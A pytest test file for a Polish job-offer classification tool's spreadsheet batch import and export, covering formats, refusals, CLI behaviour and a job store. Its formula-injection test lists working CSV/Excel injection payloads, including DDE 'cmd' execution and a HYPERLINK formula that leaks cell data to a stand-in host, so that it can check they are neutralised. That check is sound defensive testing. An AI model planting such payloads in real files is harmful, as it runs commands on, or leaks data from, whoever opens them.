"""Coding a whole spreadsheet of job offers (index/batch.py, `doradca classify --file`, the web jobs' store): every
format a counsellor's Excel writes, the refusals, formula injection, and the same codes as `classify --jsonl`."""

from __future__ import annotations

import csv
import fcntl
import io
import json
import os
import pty
import select
import struct
import subprocess
import sys
import termios
import threading
import time
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from index.batch import (
    BatchError,
    CsvFormat,
    Limits,
    TooLarge,
    code_table,
    for_review,
    output_columns,
    read_table,
    write_table,
)
from index.config import ROOT

from .conftest import needs_corpus

OFFERS = [  # (title, description): Polish letters in both, a ';' and a ',' inside a description, a line break
    ("Spawacz MIG/MAG", "Spawanie konstrukcji stalowych; uprawnienia spawalnicze, praca zmianowa."),
    ("Księgowa", "Prowadzenie ksiąg rachunkowych,\nrozliczenia VAT, deklaracje ZUS."),
    ("Magazynier", "Przyjmowanie i wydawanie towaru, obsługa wózka widłowego."),
]
HEADER = ["Lp", "Stanowisko", "Opis", "Pracodawca"]


def rows_of(offers=OFFERS) -> list[list[str]]:
    return [HEADER] + [[str(i), t, d, f"Firma {i} sp. z o.o."] for i, (t, d) in enumerate(offers, 1)]


def csv_bytes(rows: list[list[str]], delimiter: str = ";", encoding: str = "cp1250", ending: str = "\r\n") -> bytes:
    buf = io.StringIO(newline="")
    csv.writer(buf, delimiter=delimiter, lineterminator=ending).writerows(rows)
    return buf.getvalue().encode(encoding)


def xlsx_bytes(rows: list[list[object]], title: str = "Oferty",
               extra: dict[str, list[list[object]]] | None = None) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = title
    for r in rows:
        ws.append(r)
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # text, as an employer's text is (openpyxl would store '=...' as a formula)
    for name, sheet in (extra or {}).items():
        other = wb.create_sheet(name)
        for r in sheet:
            other.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def read_csv(data: bytes, encoding: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline=""), delimiter=delimiter))


# --- reading: formats, headers ---------------------------------------------------------------------------------

@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1250", "utf-16"])
def test_every_csv_a_polish_excel_writes_is_read_and_written_back_alike(delimiter: str, encoding: str):
    data = csv_bytes(rows_of(), delimiter, encoding)
    table = read_table(data)
    assert table.kind == "csv" and table.csv == CsvFormat(delimiter, encoding, "\r\n")
    assert (table.title_header, table.description_header, table.row_count) == ("Stanowisko", "Opis", 3)
    assert table.rows[2][2] == OFFERS[1][1]  # the line break inside the quoted description stays in its cell
    out = write_table(table, [], 3)
    assert out.startswith(b"\xef\xbb\xbf") == (encoding == "utf-8-sig")  # the BOM kept, or not added
    back = read_csv(out, "utf-8-sig" if encoding.startswith("utf-8") else encoding, delimiter)
    assert back[0] == HEADER + output_columns(3)
    assert [r[:4] for r in back] == rows_of()  # every row in its order, with all its own columns


@pytest.mark.parametrize("title, description", [
    ("TYTUŁ", "OPIS STANOWISKA"), ("Nazwa stanowiska", "Zakres obowiązków:"), ("job.title", "job.description"),
    ("title", "description"), ("tytul", "zakres  obowiazkow"), ("Nazwa_stanowiska", "Opis"),
])
def test_title_and_description_columns_are_found_by_their_header(title: str, description: str):
    table = read_table(csv_bytes([["Pracodawca", description, title], ["Firma", "Spawanie", "Spawacz"]], ","))
    assert (table.title, table.description) == (2, 1)


def test_a_caption_above_the_header_is_kept_and_skipped():
    rows = [["Oferty pracy – grudzień 2026", "", ""], ["", "", ""], ["Stanowisko", "Opis", "Uwagi"],
            ["Magazynier", "Kompletacja zamówień", "=pilne"]]
    table = read_table(csv_bytes(rows))
    assert (table.header, table.row_count) == (2, 1)
    back = read_csv(write_table(table, [], 1), "cp1250", ";")
    assert back[0][0] == "Oferty pracy – grudzień 2026" and back[2][3:] == output_columns(1)


def test_flags_name_other_columns():
    data = csv_bytes([["Nazwa oferty", "Treść", "stanowisko"], ["Kierowca C+E", "Trasy krajowe", "x"]], ",")
    table = read_table(data, title_column="nazwa oferty", description_column="TREŚĆ")
    assert (table.title, table.description) == (0, 1)
    with pytest.raises(BatchError, match="no column 'Kolumna X'") as e:
        read_table(data, title_column="Kolumna X")
    assert e.value.reason == "no_column" and e.value.found == ["Nazwa oferty", "Treść", "stanowisko"]


def test_descriptions_full_of_commas_do_not_fool_the_separator():
    """A ';' file whose descriptions hold more commas than the file has semicolons."""
    rows = [["Stanowisko", "Opis"]] + [[f"Pracownik {i}", "a, b, c, d, e, f, g, h"] for i in range(20)]
    assert read_table(csv_bytes(rows, ";")).csv.delimiter == ";"


def test_a_one_column_file_of_titles():
    table = read_table(b"stanowisko\nSpawacz\nKucharz\n")
    assert (table.title, table.description, table.row_count) == (0, None, 2)
    assert "no description column" in table.describe()


# --- refusals ---------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("data, reason, says", [
    (b"", "empty", "empty"),
    (b"  \r\n\r\n", "empty", "empty"),
    (b";;;\r\n;;;\r\n", "empty", "no rows with any text"),
    (b"Stanowisko;Opis\r\n", "no_rows", "no rows below the header row ('Stanowisko', 'Opis')"),
    ("Firma;Miasto;Pensja\r\nABC;Poznań;5000\r\n".encode("cp1250"), "no_title_column",
     "no title column: the first row has 'Firma', 'Miasto', 'Pensja'"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "xls", "old Excel file (.xls)"),
    (b"PK\x03\x04 not really a zip", "unreadable", "unreadable .xlsx"),
    (b"\x00\x01\x02binary\x00", "binary", "not a text file"),
    (b"\xef\xbb\xbfStanowisko\r\n\xff\xfe\xfa", "unreadable", "starts as UTF-8 but is not"),
])
def test_files_that_cannot_be_coded_are_refused_with_what_was_found(data: bytes, reason: str, says: str):
    with pytest.raises(BatchError) as e:
        read_table(data)
    assert e.value.reason == reason and says in str(e.value)


def test_an_ods_and_a_zip_that_is_no_workbook_are_refused():
    for files, says in (({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<x/>"},
                         ".ods"), ({"notes.txt": "hello"}, "not an Excel workbook")):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            for name, text in files.items():
                z.writestr(name, text)
        with pytest.raises(BatchError, match=says.replace(".", r"\.")):
            read_table(buf.getvalue())


def test_limits_of_size_rows_and_unpacked_size():
    data = csv_bytes(rows_of() * 1)
    with pytest.raises(TooLarge, match=r"at most 0.1 MB"):
        read_table(data + b" " * 100_000, Limits(max_bytes=100_000))
    many = csv_bytes([["Stanowisko"]] + [[f"Kucharz {i}"] for i in range(60)])
    with pytest.raises(TooLarge, match="60 rows; at most 50") as e:
        read_table(many, Limits(max_rows=50))
    assert e.value.reason == "too_many_rows"
    assert read_table(many, Limits(max_rows=60)).row_count == 60
    sheet = xlsx_bytes([["Stanowisko"]] + [[f"Kucharz {i} " + "x" * 5000] for i in range(200)])  # compresses ~100x
    with pytest.raises(TooLarge, match="unpacks to"):
        read_table(sheet, Limits(max_bytes=len(sheet) + 1))


# --- xlsx -------------------------------------------------------------------------------------------------------

def test_xlsx_sheets_values_and_a_second_sheet_are_kept():
    when = datetime(2026, 12, 7, 8, 30)
    data = xlsx_bytes([["Oferty na poniedziałek"], ["Lp", "Data", "Nazwa stanowiska", "Zakres obowiązków", "Pensja"],
                       [1, when, "Magazynier", "Wózek widłowy", 5200.5], [2, when, None, None, None],
                       [None, None, None, None, None], [3, when, "Kucharz", None, 4800]],
                      extra={"Kontakty": [["Pracodawca", "Telefon"], ["ABC", "+48 600 100 200"]]})
    table = read_table(data)
    assert (table.kind, table.sheet, table.header, table.row_count) == ("xlsx", "Oferty", 1, 4)
    out = load_workbook(io.BytesIO(write_table(table, [], 3)))
    assert out.sheetnames == ["Oferty", "Kontakty"]
    ws = out["Oferty"]
    assert ws.freeze_panes == "A3" and ws.auto_filter.ref.startswith("A2:")
    assert [c.value for c in ws[3]][:5] == [1, when, "Magazynier", "Wózek widłowy", 5200.5]  # types kept
    assert [c.value for c in ws[2]][5:] == output_columns(3)
    assert [c.value for c in out["Kontakty"][2]] == ["ABC", "+48 600 100 200"]


def test_a_file_coded_before_gets_its_columns_replaced_not_repeated():
    table = read_table(csv_bytes([["Stanowisko", "kod_1", "Uwagi", "do_sprawdzenia"],
                                  ["Spawacz", "999999", "x", "tak"]]))
    header = read_csv(write_table(table, [], 1), "cp1250", ";")[0]
    assert header == ["Stanowisko", "kod_1", "Uwagi", "do_sprawdzenia", "zawod_1", "pewnosc_1", "uzasadnienie"]


# --- formula injection ------------------------------------------------------------------------------------------

ATTACKS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"kliknij\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]
HARMLESS = ["-5", "+48", "3,50", "Kierowca C+E", "a=b"]


def test_cells_a_spreadsheet_would_run_are_written_as_text_in_csv_and_xlsx():
    rows = [["Stanowisko", "Opis", "Uwagi"]] + [["Kierowca C+E", "Trasy krajowe", a] for a in ATTACKS + HARMLESS]
    rows.append([ATTACKS[0], ATTACKS[1], "x"])  # in the title and description too
    attacked = range(1, len(ATTACKS) + 1)
    for source in (csv_bytes(rows, ",", "utf-8"), xlsx_bytes(rows)):
        table = read_table(source)
        given = [r[2] for r in table.rows]
        as_csv = read_csv(write_table(table, [], 1, "csv"), "utf-8-sig", table.csv.delimiter if table.csv else ";")
        assert [as_csv[i][2] for i in attacked] == ["'" + given[i] for i in attacked]
        assert [r[2] for r in as_csv[len(ATTACKS) + 1:-1]] == HARMLESS  # numbers and an inner '=' untouched
        assert as_csv[-1][:2] == ["'" + ATTACKS[0], "'" + ATTACKS[1]]
        xlsx = write_table(table, [], 1, "xlsx")
        with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
            sheet = z.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and "<f " not in sheet  # not one formula in the workbook
        ws = load_workbook(io.BytesIO(xlsx)).active
        cells = [row[2] for row in ws.iter_rows(min_row=2, max_row=len(rows))]
        for i in attacked:  # the text as typed, kept as text, with Excel's own apostrophe (quotePrefix)
            cell = cells[i - 1]  # (XML reads a carriage return back as a line feed)
            assert (cell.value, cell.data_type, cell.quotePrefix) == (given[i].replace("\r", "\n"), "s", True)
        assert not any(c.quotePrefix for c in cells[len(ATTACKS):-1])
        assert ws.cell(len(rows), 1).quotePrefix and ws.cell(len(rows), 2).quotePrefix


# --- coding with the real index ---------------------------------------------------------------------------------

@needs_corpus
def test_every_row_coded_in_order_blank_rows_left_and_unsure_rows_flagged(full_searcher):
    rows = [*rows_of(), ["4", "", "", ""], ["5", "", "", "Firma bez oferty"], ["", "", "", ""], ["7", "?!", "", ""],
            ["8", "Specjalista", "", ""]]
    table = read_table(csv_bytes(rows))
    coded = code_table(table, full_searcher.classifier, 3)
    assert [c.line for c in coded] == list(range(2, 10))
    by_line = {c.line: c for c in coded}
    assert [by_line[n].candidates[0].code for n in (2, 3, 4)] == ["721204", "331301", "432103"]
    assert (by_line[5].unsure, by_line[5].reason) == (True, "brak stanowiska i opisu oferty")
    assert by_line[7].unsure is None  # a blank row: nothing written
    assert by_line[8].unsure and "brak słów" in by_line[8].reason
    assert by_line[9].unsure  # "Specjalista" of what: the resolver is unsure
    assert [c.line for c in for_review(coded)][:4] == [5, 6, 8, 9]  # to check first, in file order
    out = read_csv(write_table(table, coded, 3), "cp1250", ";")
    cols = out[0]
    first = dict(zip(cols, out[1]))
    assert (first["kod_1"], first["zawod_1"], first["do_sprawdzenia"]) == ("721204", "Spawacz", "nie")
    assert first["pewnosc_1"].endswith("%") and 50 < int(first["pewnosc_1"][:-1]) <= 100
    assert first["uzasadnienie"].startswith(("oferta zakodowana przez eksperta: „", "nazwa zawodu: „"))
    assert dict(zip(cols, out[6]))["kod_1"] == "" and dict(zip(cols, out[6]))["do_sprawdzenia"] == ""  # line 7
    assert dict(zip(cols, out[8]))["do_sprawdzenia"] == "tak"


@needs_corpus
def test_codes_stay_text_in_xlsx_and_scores_are_percentages(full_searcher):
    table = read_table(xlsx_bytes([["stanowisko"], ["Spawacz"]]))
    coded = code_table(table, full_searcher.classifier, 2)
    ws = load_workbook(io.BytesIO(write_table(table, coded, 2))).active
    head = [c.value for c in ws[1]]
    kod, pewnosc = ws[2][head.index("kod_1")], ws[2][head.index("pewnosc_1")]
    assert kod.value == "721204" and kod.data_type == "s"  # a code of group 0 keeps its leading zero too
    assert 0 < pewnosc.value <= 1 and pewnosc.number_format == "0%"


# --- the command line --------------------------------------------------------------------------------------------

def doradca(*args: str, stdin: str = "") -> subprocess.CompletedProcess:
    exe = Path(sys.executable).with_name("doradca")
    return subprocess.run([str(exe), *args], input=stdin, capture_output=True, text=True, env=dict(os.environ),
                          cwd=ROOT, timeout=600, check=False)


@pytest.mark.parametrize("content, says", [
    (b"", "the file is empty"),
    (b"Firma,Miasto\nABC,Kalisz\n", "no title column: the first row has 'Firma', 'Miasto'"),
    (b"\xd0\xcf\x11\xe0" + bytes(100), "old Excel file (.xls)"),
])
def test_cli_refuses_a_file_it_cannot_code_with_exit_2(tmp_path: Path, content: bytes, says: str):
    src = tmp_path / "oferty.csv"
    src.write_bytes(content)
    r = doradca("classify", "--file", str(src))
    assert r.returncode == 2 and says in r.stderr and str(src) in r.stderr
    assert not (tmp_path / "oferty-kody.csv").exists()


def test_cli_usage_errors(tmp_path: Path):
    src = tmp_path / "o.csv"
    src.write_text("stanowisko\nSpawacz\n")
    for args, says in ((["--file", str(tmp_path / "brak.csv")], "cannot read"),
                       (["--file", str(src), "--out", str(tmp_path / "o.pdf")], "write .csv"),
                       (["--file", str(src), "--out", str(src)], "is the input file"),
                       (["Spawacz", "--file", str(src)], "one of them"),
                       (["Spawacz", "--out", str(src)], "go with --file"),
                       (["--file", str(src), "-k", "11"], "-k must be from 1 to 10")):
        r = doradca("classify", *args)
        assert r.returncode == 2 and says in r.stderr, (args, r.stderr)


@needs_corpus
def test_cli_codes_a_file_like_jsonl_and_writes_the_format_asked(tmp_path: Path):
    """The same offers through `--file` and `--jsonl` get the same codes (the bench's accuracy rests on it)."""
    src = tmp_path / "oferty.csv"
    src.write_bytes(csv_bytes(rows_of(), ";", "cp1250"))
    r = doradca("classify", "--file", str(src))
    assert r.returncode == 0, r.stderr
    assert "CSV, semicolon-separated, Windows-1250; 3 rows; title column 'Stanowisko'" in r.stderr
    assert "3 rows: " in r.stderr and "oferty-kody.csv" in r.stderr
    out = read_csv((tmp_path / "oferty-kody.csv").read_bytes(), "cp1250", ";")
    lines = [json.dumps({"title": t, "description": d, "k": 3}) for t, d in OFFERS]
    jsonl = [json.loads(x) for x in doradca("classify", "--jsonl", stdin="\n".join(lines)).stdout.splitlines()]
    cols = out[0]
    for row, expected in zip(out[1:], jsonl):
        got = dict(zip(cols, row))
        assert [got[f"kod_{i}"] for i in (1, 2, 3)] == [c["code"] for c in expected["candidates"]]
        assert got["do_sprawdzenia"] == ("tak" if expected["ambiguous"] else "nie")
    r = doradca("classify", "--file", str(src), "--out", str(tmp_path / "kody.xlsx"), "-k", "1")
    assert r.returncode == 0, r.stderr
    ws = load_workbook(tmp_path / "kody.xlsx").active
    assert [c.value for c in ws[1]] == HEADER + output_columns(1) and ws.max_row == 4


@needs_corpus
def test_cli_draws_a_progress_bar_on_a_terminal(tmp_path: Path):
    src = tmp_path / "oferty.csv"
    src.write_bytes(csv_bytes(rows_of()))
    leader, follower = pty.openpty()  # stderr is a terminal: tqdm draws (and stays quiet in a pipe)
    fcntl.ioctl(follower, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 100, 0, 0))  # 100 columns: room for the bar
    exe = Path(sys.executable).with_name("doradca")
    proc = subprocess.Popen([str(exe), "classify", "--file", str(src)], stdout=subprocess.DEVNULL, stderr=follower,
                            cwd=ROOT, env=dict(os.environ))
    os.close(follower)
    seen = b""
    while True:
        ready, _, _ = select.select([leader], [], [], 600)
        try:
            chunk = os.read(leader, 4096) if ready else b""
        except OSError:  # the child closed the terminal
            chunk = b""
        if not chunk:
            break
        seen += chunk
    os.close(leader)
    assert proc.wait(60) == 0
    assert b"coding: 100%" in seen and b"3/3" in seen


# --- the web process's job store ------------------------------------------------------------------------------

class Clock:
    def __init__(self) -> None:
        self.now = 1_000_000.0

    def __call__(self) -> float:
        return self.now


@needs_corpus
def test_jobs_are_coded_in_the_background_and_deleted_an_hour_after(full_searcher):
    from web.batch import Jobs

    clock = Clock()
    jobs = Jobs(full_searcher.classifier, keep=3600, queue=2, clock=clock)
    try:
        job = jobs.submit(read_table(csv_bytes(rows_of())), 3, "xlsx")
        deadline = time.monotonic() + 120
        while job.state != "done" and time.monotonic() < deadline:
            time.sleep(0.1)
        assert (job.state, job.done, job.table) == ("done", 3, None)  # the uploaded rows are not kept
        assert load_workbook(io.BytesIO(job.result)).active.max_row == 4
        assert jobs.expires(job) == clock.now + 3600
        clock.now += 3599
        assert jobs.sweep() == 0 and jobs.get(job.id) is job
        clock.now += 2
        assert jobs.sweep() == 1 and jobs.get(job.id) is None and job.result is None
    finally:
        jobs.close()


@needs_corpus
def test_a_deleted_job_stops_and_a_full_queue_says_busy(full_searcher):
    from web.batch import Busy, Jobs

    gate = threading.Event()

    class Slow:  # the real classifier behind a gate, so that the queue is seen full
        def classify(self, title, description=None, k=3):
            gate.wait(30)
            return full_searcher.classifier.classify(title, description, k)

    jobs = Jobs(Slow(), keep=3600, queue=2)
    try:
        table = read_table(csv_bytes(rows_of()))
        first, second = jobs.submit(table, 1, "csv"), jobs.submit(read_table(csv_bytes(rows_of())), 1, "csv")
        with pytest.raises(Busy):
            jobs.submit(read_table(csv_bytes(rows_of())), 1, "csv")
        assert jobs.delete(first.id) and jobs.get(first.id) is None
        gate.set()
        deadline = time.monotonic() + 120
        while second.state != "done" and time.monotonic() < deadline:
            time.sleep(0.1)
        assert second.state == "done" and first.state != "done" and first.done < 3
    finally:
        gate.set()
        jobs.close()


def test_rate_limit_counts_a_sliding_window_per_address():
    from web.batch import RateLimit

    limit = RateLimit(3, 60)
    assert [limit.allow("10.0.0.1", now=600.0) for _ in range(4)] == [True, True, True, False]
    assert limit.allow("10.0.0.2", now=600.0)  # another address has its own count
    assert not limit.allow("10.0.0.1", now=659.0)  # still inside the last 60 s
    assert limit.allow("10.0.0.1", now=721.0)  # a window later: free again
    assert all(b"10.0.0" not in key for key in limit.current)  # addresses are kept hashed
    assert all(RateLimit(0, 60).allow("x") for _ in range(100))  # 0: off
